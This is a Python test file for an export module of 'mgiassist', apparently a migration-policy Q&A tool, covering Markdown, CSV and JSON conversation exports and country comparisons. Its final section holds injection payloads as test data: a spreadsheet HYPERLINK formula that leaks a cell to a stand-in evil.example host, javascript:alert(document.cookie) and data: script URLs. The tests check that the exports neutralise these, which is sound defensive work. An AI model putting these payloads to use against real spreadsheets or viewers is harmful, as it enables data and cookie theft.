"""Conversation export (Markdown, CSV, JSON) and the country comparison, without a model."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mgiassist.answer import Answer, AnswerSentence, CitedPassage, Span
from mgiassist.export import (
    CONVERSATION_CSV_FIELDS,
    NO_PASSAGE,
    compare_countries,
    comparison_csv,
    conversation_csv,
    conversation_json,
    conversation_markdown,
)

LABEL = "Cambodia · Diaspora engagement mapping, September 2022 · Political rights"
URL = "https://www.khmertimeskh.com/6674/nec-pressed-on-election-reforms/"


def _passage(
    marker: int = 1, chunk_id: str = "b8f0", text: str = "Voting from abroad is allowed."
) -> CitedPassage:
    return CitedPassage(
        marker=marker,
        rank=1,
        chunk_id=chunk_id,
        label=LABEL,
        citation={
            "country": "Cambodia",
            "source": "mapping.txt",
            "footnotes": [{"number": 3, "text": URL, "urls": [URL]}],
        },
        text=text,
        highlights=[Span(0, len(text))],
    )


def _records() -> list[dict]:
    answered = Answer(
        question="Can Cambodians vote from abroad?",
        search_query="Can Cambodians vote from abroad?",
        abstained=False,
        sentences=[AnswerSentence("Voting from abroad is allowed.", 1, 0.8, Span(0, 30))],
        passages=[_passage()],
    ).to_dict()
    answered.update(
        filters={"country": "Cambodia"}, asked_at="2026-11-23T02:00:00+00:00", index_version="abc123"
    )
    followed = Answer(
        question="# and there?",
        search_query="# and there? Cambodia",
        abstained=True,
        sentences=[],
        passages=[],
    ).to_dict()
    error = {"question": "", "error": "the question is empty", "citations": []}
    return [answered, followed, error]


def test_markdown_lists_every_turn_with_citations_and_sources() -> None:
    md = conversation_markdown(_records())
    assert "## 1. Can Cambodians vote from abroad?" in md
    assert "Voting from abroad is allowed. [1]" in md
    assert f"**[1] {LABEL}**" in md
    assert f"- <{URL}>" in md
    assert "## 2. \\# and there?" in md  # corpus/user text never becomes a heading
    assert "*Searched for: \\# and there? Cambodia*" in md
    assert "don't appear to cover" in md
    assert "- State: Not answered — the question is empty" in md
    assert "- State: Answered" in md and "- Filters: Country: Cambodia" in md
    assert "- asked 2026-11-23T02:00:00+00:00 · index abc123" in md


def _csv_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # the byte-order mark a spreadsheet needs to read UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_has_one_row_per_cited_passage() -> None:
    rows = _csv_rows(conversation_csv(_records()))
    assert tuple(rows[0].keys()) == CONVERSATION_CSV_FIELDS
    assert [r["turn"] for r in rows] == ["1", "2", "3"]
    assert rows[0]["citation"] == LABEL and rows[0]["chunk_id"] == "b8f0"
    assert rows[0]["footnote_urls"] == URL
    assert rows[0]["highlighted"] == "Voting from abroad is allowed."
    assert rows[1]["abstained"] == "True" and rows[1]["citation"] == ""
    assert rows[2]["answer"] == "the question is empty"
    assert [r["state"] for r in rows] == ["answered", "not_covered", "error"]
    assert "don't appear to cover" in rows[1]["reason"]
    assert rows[0]["filters"] == "Country: Cambodia" and rows[1]["filters"] == ""
    assert rows[0]["asked_at"] == "2026-11-23T02:00:00+00:00"
    assert rows[0]["index_version"] == "abc123"


def test_csv_keeps_state_reason_notes_and_slug_free_filters() -> None:
    record = {
        "question": "Gaps?",
        "state": "partial",
        "reason": "Only one of two parts is covered.",
        "notes": ["narrowed to Cambodia", "no indexed profile covers Kenya"],
        "filters": {"country": "Cambodia", "polarity": "further-development"},
        "citations": [],
    }
    row = _csv_rows(conversation_csv([record]))[0]
    assert row["state"] == "partial" and row["reason"] == "Only one of two parts is covered."
    assert row["notes"] == "narrowed to Cambodia; no indexed profile covers Kenya"
    assert row["filters"] == (
        "Country: Cambodia · Polarity: Areas with potential for further development"
    )
    assert not conversation_csv([record], bom=False).startswith("\ufeff")


def test_json_round_trips_the_records() -> None:
    records = _records()
    data = json.loads(
        conversation_json(records, exported_at="2026-11-23T03:00:00+00:00", index_version="v1")
    )
    assert data["format"] == "mgiassist-conversation/1"
    assert data["exported_at"] == "2026-11-23T03:00:00+00:00" and data["index_version"] == "v1"
    assert [t["state"] for t in data["turns"]] == ["answered", "not_covered", "error"]
    def without_state(turns):
        return [{k: v for k, v in t.items() if k not in ("state", "reason")} for t in turns]

    assert without_state(data["turns"]) == without_state(records)
    assert data["turns"][0]["citations"][0]["citation"]["footnotes"][0]["urls"] == [URL]


def test_empty_conversation_exports_cleanly() -> None:
    assert conversation_markdown([]).startswith("# mgiassist conversation")
    assert conversation_csv([]).strip() == "\ufeff" + ",".join(CONVERSATION_CSV_FIELDS)
    assert json.loads(conversation_json([]))["turns"] == []


def _answer(country: str, found: bool) -> Answer:
    if not found:
        return Answer("q", "q", True, [], [], nearest=[_passage()])
    passage = _passage(chunk_id=f"{country}-1", text=f"{country} allows voting from abroad.")
    passage.label = f"{country} · MGI profile · Migrants' rights"
    return Answer("q", "q", False, [AnswerSentence(passage.text, 1, 0.7, Span(0, 10))], [passage])


def test_compare_gives_one_row_per_country_in_order() -> None:
    asked: list[tuple[str, str]] = []

    def answer_for(question: str, country: str) -> Answer:
        asked.append((question, country))
        return _answer(country, found=country != "Ghana")

    rows = compare_countries(
        "Can citizens vote from abroad?", ["Cambodia", "Ghana", "Morocco"], answer_for
    )
    assert asked == [
        ("Can citizens vote from abroad?", c) for c in ("Cambodia", "Ghana", "Morocco")
    ]
    assert [r.country for r in rows] == ["Cambodia", "Ghana", "Morocco"]
    assert rows[0].found and rows[0].answer == "Cambodia allows voting from abroad."
    assert rows[0].citation.startswith("Cambodia ·") and rows[0].footnote_urls == (URL,)
    # An abstaining country shows no passage at all, not its nearest one.
    assert not rows[1].found and rows[1].answer == NO_PASSAGE and rows[1].passage == ""


def test_comparison_csv() -> None:
    rows = compare_countries("q?", ["Cambodia", "Ghana"], lambda q, c: _answer(c, c == "Cambodia"))
    table = _csv_rows(comparison_csv("q?", rows))
    assert [(r["question"], r["country"], r["answer"]) for r in table] == [
        ("q?", "Cambodia", "Cambodia allows voting from abroad."),
        ("q?", "Ghana", NO_PASSAGE),
    ]
    assert table[0]["footnote_urls"] == URL and table[0]["chunk_id"] == "Cambodia-1"


# --- exports safe to open -------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet reads as a formula (OWASP)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _hostile_record(text: str) -> dict:
    passage = _passage(text=text)
    passage.label = text
    record = Answer(question=text, search_query=text, abstained=False,
                    sentences=[AnswerSentence(text, 1, 0.8, Span(0, 1))], passages=[passage]).to_dict()
    record["asked_at"] = text
    return record


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        text = start + "1+2" if start != "=" else FORMULA
        row = _csv_rows(conversation_csv([_hostile_record(text)]))[0]
        for name in ("question", "search_query", "citation", "passage", "asked_at", "highlighted"):
            assert row[name] == "'" + text, (start, name)
        assert row["turn"] == "1" and row["marker"] == "1"  # numbers are numbers, not text


def test_csv_leaves_numbers_and_harmless_text_alone() -> None:
    record = _hostile_record("Kenya counts 1-2 million emigrants.")
    record["citations"][0]["marker"] = -3  # a number is never quoted, even a negative one
    row = _csv_rows(conversation_csv([record]))[0]
    assert row["passage"] == "Kenya counts 1-2 million emigrants." and row["marker"] == "-3"


def test_comparison_csv_quotes_formulas_too() -> None:
    rows = compare_countries(FORMULA, ["Cambodia"], lambda q, c: _answer(c, True))
    rows[0].passage = "@SUM(A1:A9)"
    table = _csv_rows(comparison_csv(FORMULA, rows))
    assert table[0]["question"] == "'" + FORMULA and table[0]["passage"] == "'@SUM(A1:A9)"
    assert table[0]["country"] == "Cambodia"


# Any text: what cannot open a formula comes back as it was; what could comes back behind a quote.
@settings(max_examples=50, deadline=None)
@given(text=st.text())
def test_csv_cells_never_open_a_formula(text: str) -> None:
    expected = "'" + text if text.startswith(FORMULA_STARTS) else text
    row = _csv_rows(conversation_csv([_hostile_record(text)]))[0]
    for name in ("question", "search_query", "citation", "passage", "asked_at"):
        assert not row[name].startswith(FORMULA_STARTS)
        assert row[name] == expected
    rows = compare_countries(text, ["Cambodia"], lambda q, c: _answer(c, True))
    rows[0].passage = text
    table = _csv_rows(comparison_csv(text, rows))[0]
    assert table["question"] == expected and table["passage"] == expected


def _links(markdown: str) -> list[str]:
    """Every link and image target of ``markdown`` as a renderer that trusts every URL sees it
    (markdown-it refuses javascript: itself; a viewer need not)."""
    markdown_it = pytest.importorskip("markdown_it")
    md = markdown_it.MarkdownIt("commonmark")
    md.validateLink = lambda url: True
    tokens = md.parse(markdown)
    found = []
    for token in tokens:
        for child in token.children or []:
            if child.type in ("link_open", "image"):
                found.append(child.attrGet("href") or child.attrGet("src"))
    return found


def test_markdown_links_only_http_and_mailto() -> None:
    record = _hostile_record("See the law.")
    record["citations"][0]["citation"]["footnotes"] = [{"number": 1, "text": "", "urls": [
        URL, "mailto:office@example.org", "javascript:alert(document.cookie)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "https://example.org/x>[x](javascript:alert(1))"]}]
    md = conversation_markdown([record])
    assert _links(md) == [URL, "mailto:office@example.org"]
    assert "- javascript:alert(document.cookie)" in md  # shown as text, not dropped
    assert "- data:text/html" in md


def test_markdown_text_never_becomes_a_link() -> None:
    text = "[ref]: javascript:alert(2)\n\n[click](javascript:alert(1)) ![x](data:image/png;base64,AA) [ref]"
    md = conversation_markdown([_hostile_record(text)])
    assert _links(md) == [URL]  # the footnote's own link only
    assert "click" in md and "javascript:alert(2)" in md


# Link-shaped text (inline links, images, autolinks, definitions) among noise, and any text.
_NOISE = st.text(alphabet="[]()<>:!&#\\\n x", max_size=6)
_LINKISH = st.tuples(_NOISE, st.sampled_from(["[", "![", "<", "\n["]), _NOISE,
                     st.sampled_from(["](", "]: ", "][", "]", ""]),
                     st.sampled_from(["javascript:alert(1)", "data:text/html,x", "x"]),
                     st.sampled_from([")", ">", ' "t")', ""]), _NOISE).map("".join)


@settings(max_examples=50, deadline=None)
@given(text=st.one_of(_LINKISH, st.text()))
def test_markdown_text_never_becomes_a_link_for_any_text(text: str) -> None:
    assert _links(conversation_markdown([_hostile_record(text)])) == [URL]
